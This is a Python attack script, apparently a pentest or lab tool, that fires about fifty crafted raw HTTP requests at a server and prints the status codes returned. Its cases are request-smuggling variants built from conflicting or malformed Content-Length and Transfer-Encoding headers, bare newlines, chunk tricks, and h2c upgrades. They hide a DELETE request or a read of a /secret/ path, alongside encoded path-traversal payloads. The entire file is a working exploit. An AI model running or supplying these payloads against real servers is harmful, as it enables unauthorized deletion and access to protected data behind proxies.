# Sends requests that two servers may take apart differently, each by its own
# connection: smuggle.py ADDRESS PORT HOST TOKEN. What is hidden deletes, or reads
# /secret/, and names the token.
import socket, sys
from concurrent.futures import ThreadPoolExecutor

address, port, host, token = sys.argv[1:]
delete = "DELETE /v2/%s HTTP/1.1\r\nHost: %s\r\n\r\n" % (token, host)
secret = "GET /secret/%s HTTP/1.1\r\nHost: %s\r\n\r\n" % (token, host)


def get(headers="", path="/v2/list", version="HTTP/1.1", end="\r\n"):
    return ("GET %s %s%sHost: %s%s%s%s" % (path, version, end, host, end, headers, end))


def framed(headers, body):
    return get(headers) + body


chunked = "Transfer-Encoding: chunked\r\n"
cases = {
    "plain": get(),
    "delete": delete,
    "secret": secret,
    "pipelined": get() + delete,
    "pipelined secret": get() + secret,
    "length and chunks": framed("Content-Length: 6\r\n" + chunked, "0\r\n\r\n" + delete),
    "chunks and length": framed(chunked + "Content-Length: 4\r\n", "5c\r\n" + delete + "\r\n0\r\n\r\n"),
    "two lengths": framed("Content-Length: 0\r\nContent-Length: %d\r\n" % len(delete), delete),
    "list of lengths": framed("Content-Length: 0, 0\r\n", delete),
    "signed length": framed("Content-Length: +0\r\n", delete),
    "hexadecimal length": framed("Content-Length: 0x0\r\n", delete),
    "huge length": framed("Content-Length: 18446744073709551616\r\n", delete),
    "negative length": framed("Content-Length: -1\r\n", delete),
    "xchunked": framed("Transfer-Encoding: xchunked\r\n", "0\r\n\r\n" + delete),
    "chunked twice": framed(chunked + chunked, "0\r\n\r\n" + delete),
    "chunked, identity": framed("Transfer-Encoding: chunked, identity\r\n", "0\r\n\r\n" + delete),
    "blank before colon": framed("Transfer-Encoding : chunked\r\n", "0\r\n\r\n" + delete),
    "tab in coding": framed("Transfer-Encoding:\tchunked\x0b\r\n", "0\r\n\r\n" + delete),
    "folded": framed("X: y\r\n Transfer-Encoding: chunked\r\n", "0\r\n\r\n" + delete),
    "bare newlines": get(end="\n") + delete.replace("\r\n", "\n"),
    "bare return": framed("X: y\rContent-Length: %d\r\n" % len(delete), delete),
    "zero byte": framed("X: \0y\r\n", delete),
    "chunk overflow": framed(chunked, "10000000000000000\r\n\r\n0\r\n\r\n" + delete),
    "chunk extension": framed(chunked, "0;x=\n\r\n\r\n" + delete),
    "chunk without end": framed(chunked, "2\r\nabXX0\r\n\r\n" + delete),
    "trailer": framed(chunked, "0\r\nContent-Length: 5\r\n\r\n" + delete),
    "expectation": framed("Expect: 100-continue\r\nContent-Length: 0\r\n", delete),
    "named hop": framed("Connection: Content-Length, close\r\nContent-Length: %d\r\n" % len(delete), delete),
    "old keep-alive": get("Connection: keep-alive\r\n", version="HTTP/1.0") + delete,
    "no version": "GET /secret/%s\r\n" % token,
    "two versions": "GET /v2/ HTTP/1.1 /secret/%s HTTP/1.1\r\nHost: %s\r\n\r\n" % (token, host),
    "absolute": get(path="http://%s/secret/%s" % (host, token)),
    "absolute elsewhere": get(path="http://hidden.example/v2/%s/../../secret/%s" % (token, token)),
    "userinfo": get(path="http://%s@hidden.example/secret/%s" % (host, token)),
    "tunnel": "CONNECT %s:80 HTTP/1.1\r\nHost: %s\r\n\r\n" % (host, host) + delete,
    "upgrade": get("Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n") + delete,
    "preface": "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + delete,
    "dots": get(path="/v2/../secret/" + token),
    "encoded dots": get(path="/v2/%2e%2e/secret/" + token),
    "encoded slash": get(path="/v2/..%2fsecret/" + token),
    "encoded twice": get(path="/v2/%252e%252e/secret/" + token),
    "slashes": get(path="//secret/" + token),
    "parameter": get(path="/v2/..;/secret/" + token),
    "backslash": get(path="/v2\\..\\secret\\" + token),
    "fragment": get(path="/v2/#/../../secret/" + token),
    "case": "get /secret/%s HTTP/1.1\r\nHost: %s\r\n\r\n" % (token, host),
    "override": get("X-HTTP-Method-Override: DELETE\r\n", path="/v2/" + token).replace("GET", "POST", 1),
    "two hosts": get("Host: hidden.example\r\n", path="/secret/" + token),
    "leading newline": "\r\n\r\n" + delete,
    "trace": "TRACE /v2/%s HTTP/1.1\r\nHost: %s\r\n\r\n" % (token, host),
}


def one(case):
    name, text = case
    s = socket.create_connection((address, int(port)), timeout=2)
    s.sendall(text.encode("latin1"))
    s.settimeout(0.25)
    got = b""
    try:
        while more := s.recv(4096):
            got += more
    except OSError:
        pass
    lines = got.decode("latin1").split("\n")
    return "%s: %s" % (name, " ".join(l.split(" ")[1] for l in lines if l.startswith("HTTP/1.") and " " in l))


with ThreadPoolExecutor(8) as e:
    print("\n".join(e.map(one, cases.items())))
